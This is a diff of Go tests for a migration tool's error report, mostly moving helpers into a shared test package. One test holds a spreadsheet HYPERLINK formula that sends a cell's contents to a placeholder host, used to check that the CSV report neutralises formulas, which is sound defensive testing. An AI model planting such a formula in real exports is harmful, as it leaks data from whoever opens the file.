@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/migrate-tool/migrate/executor"
+	"github.com/migrate-tool/migrate/executor/executortest"
 	"github.com/migrate-tool/migrate/journal"
 	"github.com/migrate-tool/migrate/sandbox"
 )
@@ -19,7 +20,7 @@ import (
 // was sent.
 func TestReportKeepsEveryRowOfAGroup(t *testing.T) {
 	t.Parallel()
-	tg := newTarget(t, sandbox.Options{})
+	tg := executortest.NewTarget(t, sandbox.Options{})
 	var orders []string
 	// A1, 40 lines: its 17th names a part that does not exist.
 	for i := 0; i < 40; i++ {
@@ -36,10 +37,10 @@ func TestReportKeepsEveryRowOfAGroup(t *testing.T) {
 	for i := 0; i < 5000; i++ {
 		orders = append(orders, fmt.Sprintf("Z%d,skip,P1,1", i))
 	}
-	o, sum := tg.load(t, ordersFiles(2, true, orders...))
+	o, sum := tg.Load(t, ordersFiles(2, true, orders...))
 	// What exists: A1 with its 39 good lines, numbered by the server.
-	a1 := tg.entities("ORDERS", "DETAILS")["A1"]
-	if n := len(lines(a1, "ORDERITEMS_SUBFORM")); a1 == nil || n != 39 {
+	a1 := tg.Entities("ORDERS", "DETAILS")["A1"]
+	if n := len(executortest.Lines(a1, "ORDERITEMS_SUBFORM")); a1 == nil || n != 39 {
 		t.Fatalf("A1 %v with %d lines", a1, n)
 	}
 	partly := fmt.Sprintf("ORDERS('%s') created with 39 of 40 lines", a1["ORDNAME"])
@@ -154,9 +155,9 @@ func TestRowOfCell(t *testing.T) {
 // with a leading apostrophe, so that opening the report runs nothing.
 func TestReportCSVNeutralisesFormulas(t *testing.T) {
 	t.Parallel()
-	tg := newTarget(t, sandbox.Options{})
+	tg := executortest.NewTarget(t, sandbox.Options{})
 	evil := `=HYPERLINK("http://example.invalid/?"&A1,"click")`
-	o, _ := tg.load(t, ordersFiles(3, false, `O1,C1,"`+strings.ReplaceAll(evil, `"`, `""`)+`",1`))
+	o, _ := tg.Load(t, ordersFiles(3, false, `O1,C1,"`+strings.ReplaceAll(evil, `"`, `""`)+`",1`))
 	out := filepath.Join(t.TempDir(), "failed.csv")
 	if n, _, err := Report(o.Journal, out); err != nil || n != 1 {
 		t.Fatalf("report %d %v", n, err)
@@ -171,8 +172,8 @@ func TestReportCSVNeutralisesFormulas(t *testing.T) {
 // failed rows' file lists its row, waived.
 func TestReportOfAWaivedRecord(t *testing.T) {
 	t.Parallel()
-	tg := newTarget(t, sandbox.Options{})
-	o, sum := tg.load(t, ordersFiles(3, false, "O1,C1,P1,1", "O2,C1,P2,x"))
+	tg := executortest.NewTarget(t, sandbox.Options{})
+	o, sum := tg.Load(t, ordersFiles(3, false, "O1,C1,P1,1", "O2,C1,P2,x"))
 	if sum.Complete || stepOf(sum, "orders").Failed != 1 {
 		t.Fatalf("apply: %+v", sum)
 	}
